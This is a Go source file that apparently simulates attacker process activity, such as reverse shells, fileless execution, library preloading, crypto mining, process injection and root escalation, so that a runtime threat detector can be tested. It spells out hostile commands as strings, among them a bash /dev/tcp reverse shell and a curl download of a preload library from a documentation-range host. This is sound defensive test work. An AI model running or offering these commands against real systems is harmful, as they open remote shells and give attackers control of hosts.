package simulate

import (
	"net/netip"
	"time"

	"github.com/vedette-project/vedette/internal/event"
)

// outside is who the simulated attackers speak with: an address that is kept for documents.
const outside = "203.0.113.99:4444"

// processScripts are what processes do that they should not.
func processScripts() map[string]runtimeScript {
	return map[string]runtimeScript{
		"Execution:Runtime/ReverseShell":           bashToSocket,
		"Execution:Runtime/SuspiciousShellCreated": shellFromService,
		"Execution:Runtime/NewBinaryExecuted":      packageInstalled,
		"Execution:Runtime/NewLibraryLoaded":       libraryPreloaded,
		"DefenseEvasion:Runtime/FilelessExecution": memoryExecuted,
		"Impact:Runtime/CryptoMinerExecuted": func(l *runtimeLog) {
			sh := l.child(l.main, "/bin/sh", "-c", "./.cache/syshealth -o stratum+tcp://203.0.113.99:3333 -u 44.. -k --donate-level 1")
			l.exec(l.child(sh, "/home/shop/.cache/syshealth", "-o", "stratum+tcp://203.0.113.99:3333", "-k", "--donate-level", "1"))
		},
		"DefenseEvasion:Runtime/ProcessInjection.Ptrace": func(l *runtimeLog) {
			p := l.child(l.entered(), "/opt/tools/inject", "1")
			r := l.record(event.KindPtrace, p)
			r.Target = &event.Target{Process: l.main.Process, Request: "PTRACE_ATTACH"}
			l.write(r)
			r = l.record(event.KindPtrace, p)
			r.Target = &event.Target{Process: l.main.Process, Request: "PTRACE_POKETEXT"}
			l.write(r)
		},
		"DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite": func(l *runtimeLog) {
			r := l.record(event.KindVMWrite, l.child(l.entered(), "/opt/tools/inject", "1"))
			r.Target = &event.Target{Process: l.main.Process, Bytes: 4096}
			l.write(r)
		},
		"DefenseEvasion:Runtime/ProcessInjection.Proc": func(l *runtimeLog) {
			r := l.record(event.KindProcMem, l.child(l.entered(), "/usr/bin/dd", "of=/proc/1/mem", "bs=1", "seek=4198400"))
			r.Target = &event.Target{Process: l.main.Process}
			l.write(r)
		},
		"DefenseEvasion:Runtime/PtraceAntiDebugging": func(l *runtimeLog) {
			p := l.child(l.entered(), "/opt/tools/agent")
			r := l.record(event.KindPtrace, p)
			r.Target = &event.Target{Process: p.Process, Request: "PTRACE_TRACEME"}
			l.write(r)
		},
		"PrivilegeEscalation:Runtime/ElevationToRoot": func(l *runtimeLog) {
			p := l.child(l.child(l.main, "/bin/sh", "-c", "find . -exec /bin/sh -p \\;"), "/usr/bin/find", ".", "-exec", "/bin/sh", "-p", ";")
			p.EUID = 0
			l.exec(p, func(x *event.Exec) { x.Setuid, x.OldEUID, x.File.Mode = true, p.UID, 0o4755 })
		},
		"PrivilegeEscalation:Runtime/UserfaultfdUsage": func(l *runtimeLog) {
			l.write(l.record(event.KindUserfaultfd, l.child(l.entered(), "/opt/tools/exploit")))
		},
	}
}

// bashToSocket is bash -i >& /dev/tcp/203.0.113.99/4444 0>&1.
func bashToSocket(l *runtimeLog) {
	sh := l.child(l.main, "/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.99/4444 0>&1")
	l.exec(sh)
	p := l.child(sh, "/bin/bash", "-i")
	l.connect(sh, outside)
	s := l.socket(outside)
	r := l.record(event.KindDup, sh)
	ends := []event.Stdio{socketAt(s, 0), socketAt(s, 1), socketAt(s, 2)}
	r.Dup = &event.Dup{Old: 3, Stdio: ends[0], All: ends}
	l.write(r)
	l.exec(p, stdio(s, 0, 1, 2))
}

func socketAt(s event.Socket, fd int) event.Stdio {
	return event.Stdio{FD: fd, Kind: "socket", Inode: s.Inode, Socket: &s}
}

// shellFromService is a shell that a web shell opened with a terminal.
func shellFromService(l *runtimeLog) {
	py := l.child(l.main, "/usr/bin/python3", "-c", "import pty; pty.spawn('/bin/bash')")
	l.exec(py)
	p := l.child(py, "/bin/bash")
	p.TTY = true
	l.exec(p, func(x *event.Exec) {
		for fd := range 3 {
			x.FDs[fd] = event.Stdio{FD: fd, Kind: "tty", Path: "/dev/pts/0"}
		}
	})
}

// packageInstalled is apt install in a container that runs, and what a package
// then runs itself, as in the workshop of EKS.
func packageInstalled(l *runtimeLog) {
	sh := l.child(l.shim, "/bin/bash", "-c", "apt update && apt install -y curl")
	apt := l.child(sh, "/usr/bin/apt", "install", "-y", "curl")
	l.exec(apt)
	dpkg := l.child(apt, "/usr/bin/dpkg", "--unpack", "/var/cache/apt/archives/openssl_3.0.13_amd64.deb")
	l.exec(dpkg)
	script := l.child(l.child(dpkg, "/usr/bin/perl", "/usr/share/debconf/frontend"), "/usr/bin/dash", "/var/lib/dpkg/info/ca-certificates.postinst", "configure")
	l.exec(l.child(script, "/usr/bin/openssl", "rehash", "/etc/ssl/certs"), l.written(dpkg))
}

func libraryPreloaded(l *runtimeLog) {
	sh := l.entered()
	curl := l.child(sh, "/usr/bin/curl", "-o", "/tmp/.libsys.so", "http://203.0.113.99/l")
	p := l.child(sh, "/usr/bin/ssh", "backup.example.com")
	p.Preload = "/tmp/.libsys.so"
	l.exec(p)
	r := l.record(event.KindLibrary, p)
	at := l.at.Add(-2 * time.Second)
	r.Library = &event.Mapped{File: event.Image{
		Path: "/tmp/.libsys.so", Mode: 0o755, FileSystem: "overlay", Upper: true, CTime: at, MTime: at, WrittenAt: at, Writer: &curl.Process,
	}}
	l.write(r)
}

// memoryExecuted is a program that is fetched into memory and run from there.
func memoryExecuted(l *runtimeLog) {
	py := l.child(l.main, "/usr/bin/python3", "-c", "import os,ctypes…")
	l.exec(py)
	l.connect(py, outside)
	r := l.record(event.KindMemfd, py)
	r.Memory = &event.Memory{Name: "a", Flags: []string{"MFD_CLOEXEC"}}
	l.write(r)
	p := l.child(py, "/memfd:a (deleted)")
	l.exec(p, func(x *event.Exec) {
		x.Path = "/proc/self/fd/3"
		x.File = event.Image{Path: "/memfd:a (deleted)", Inode: 77, Mode: 0o777, FileSystem: "tmpfs", Memfd: true, Deleted: true, Writer: &py.Process, WrittenAt: l.at}
	})
}

// unixConnect writes that a process called a Unix socket.
func (l *runtimeLog) unixConnect(p *simProcess, path, errno string) {
	r := l.record(event.KindConnect, p)
	r.Error = errno
	r.Net = &event.Connection{Established: errno == "", Socket: event.Socket{Family: "AF_UNIX", Type: "SOCK_STREAM", Path: path, Inode: 71240, Local: netip.AddrPort{}}}
	l.write(r)
}
